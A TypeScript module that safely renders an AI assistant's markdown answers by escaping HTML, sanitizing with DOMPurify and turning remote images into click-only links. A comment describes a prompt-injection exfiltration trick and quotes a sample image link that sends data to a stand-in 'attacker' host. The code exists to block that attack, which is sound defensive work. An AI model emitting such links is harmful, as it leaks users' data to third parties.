import MarkdownIt from 'markdown-it';
import DOMPurify from 'dompurify';
import type { Translate } from '../../../src/locales';

// A model answer is untrusted: markdown-it escapes raw HTML (html: false) and DOMPurify removes
// anything executable that could still slip through (javascript: links, event handlers).
const md = new MarkdownIt({ html: false, linkify: true, breaks: false });
md.renderer.rules.link_open = (tokens, idx, options, _env, self) => {
  tokens[idx].attrSet('target', '_blank');
  tokens[idx].attrSet('rel', 'noopener noreferrer');
  return self.renderToken(tokens, idx, options);
};

// A long code line or a wide table scrolls sideways inside the answer; a scrolling box must be reachable
// by keyboard (axe: scrollable-region-focusable), so each gets a tab stop.
const fence = md.renderer.rules.fence!;
const codeBlock = md.renderer.rules.code_block!;
md.renderer.rules.fence = (...args) => fence(...args).replace(/^<pre>/, '<pre tabindex="0">');
md.renderer.rules.code_block = (...args) => codeBlock(...args).replace(/^<pre>/, '<pre tabindex="0">');
md.renderer.rules.table_open = (tokens, idx, options, _env, self) => {
  tokens[idx].attrSet('tabindex', '0');
  return self.renderToken(tokens, idx, options);
};

/** The words that stand in for a picture the answer names on another site. */
export type PictureLabel = (host: string, alt: string) => string;

const defaultLabel: PictureLabel = (host, alt) => `Picture from ${host}${alt ? `: ${alt}` : ''} (not loaded; click to open)`;

interface RenderEnv {
  pictureLabel: PictureLabel;
}

// An answer is model text, and text a model read (a pasted document, a web page) can steer it: a picture
// in it must not load by itself, or `![x](https://attacker/?d=…)` would send data away without a click.
// A remote picture becomes a link naming its host, opened only if the user clicks it; a picture inside
// the answer itself (a data: URL) is shown, since showing it asks nothing of any server.
md.renderer.rules.image = (tokens, idx, _options, env) => {
  const tok = tokens[idx];
  const src = tok.attrGet('src') ?? '';
  const alt = tok.content;
  if (/^data:image\//i.test(src)) return `<img src="${md.utils.escapeHtml(src)}" alt="${md.utils.escapeHtml(alt)}">`;
  let host = '';
  try {
    const u = new URL(src);
    if (u.protocol === 'https:' || u.protocol === 'http:') host = u.host;
  } catch {
    /* a relative or odd address: no link to offer */
  }
  const label = md.utils.escapeHtml((env as RenderEnv).pictureLabel(host, alt));
  if (!host) return `<span class="dsplus-picture">[${md.utils.escapeHtml(alt || src)}]</span>`;
  return `<a class="dsplus-remote-picture" href="${md.utils.escapeHtml(src)}" target="_blank" rel="noopener noreferrer">${label}</a>`;
};

// A second line of defence: whatever HTML reaches DOMPurify, no element keeps an address that would load
// by itself (only <a href> does, and that needs a click).
DOMPurify.addHook('afterSanitizeAttributes', (node) => {
  for (const attr of ['src', 'srcset', 'poster', 'background', 'data', 'action', 'formaction', 'xlink:href']) {
    const v = node.getAttribute(attr);
    if (v !== null && !(node.tagName === 'IMG' && attr === 'src' && /^data:image\//i.test(v))) node.removeAttribute(attr);
  }
  const style = node.getAttribute('style');
  if (style && /url\s*\(|@import/i.test(style)) node.removeAttribute('style');
  if (node.tagName !== 'A' && node.hasAttribute('href')) node.removeAttribute('href');
});

/** The label in the user's language. */
export function pictureLabelFor(t: Translate): PictureLabel {
  return (host, alt) => (alt ? t('ask.picture.remote', { host, alt }) : t('ask.picture.remoteNoAlt', { host }));
}

export function renderMarkdown(src: string, pictureLabel: PictureLabel = defaultLabel): string {
  const env: RenderEnv = { pictureLabel };
  return DOMPurify.sanitize(md.render(src, env), {
    ADD_ATTR: ['target'],
    FORBID_TAGS: ['style', 'form', 'input', 'button', 'link', 'meta', 'base', 'iframe', 'object', 'embed', 'video', 'audio', 'source', 'picture'],
  });
}

/** Plain text of the rendered answer, for hosts that take text (an Excel cell, a slide text box). */
export function markdownToPlain(src: string, pictureLabel: PictureLabel = defaultLabel): string {
  // Parsed in an inert document: nothing in it loads, even for a moment.
  const doc = new DOMParser().parseFromString(`<div>${renderMarkdown(src, pictureLabel)}</div>`, 'text/html');
  const div = doc.body.firstElementChild ?? doc.body;
  return toText(div)
    .replace(/[ \t]+\n/g, '\n')
    .replace(/\n{3,}/g, '\n\n')
    .trim();
}

const CONTAINERS = new Set(['DIV', 'UL', 'OL', 'TABLE', 'THEAD', 'TBODY', 'TR', 'BLOCKQUOTE']);

function toText(node: Node): string {
  if (node.nodeType === Node.TEXT_NODE) {
    // markdown-it puts newlines between block tags; they are layout, not content.
    return node.parentElement && CONTAINERS.has(node.parentElement.tagName) && !node.textContent?.trim() ? '' : (node.textContent ?? '');
  }
  if (!(node instanceof Element)) return '';
  const inner = () => Array.from(node.childNodes, toText).join('');
  switch (node.tagName) {
    case 'BR':
      return '\n';
    case 'LI':
      return `• ${inner().trim()}\n`;
    case 'P':
      return node.parentElement?.tagName === 'LI' ? inner() : `${inner()}\n\n`;
    case 'UL':
    case 'OL':
    case 'TABLE':
      return `${inner()}\n`;
    case 'TR':
      return `${Array.from(node.children, (c) => toText(c).trim()).join('\t')}\n`;
    case 'PRE':
      return `${node.textContent ?? ''}\n\n`;
    default:
      return /^H[1-6]$/.test(node.tagName) ? `${inner()}\n` : inner();
  }
}
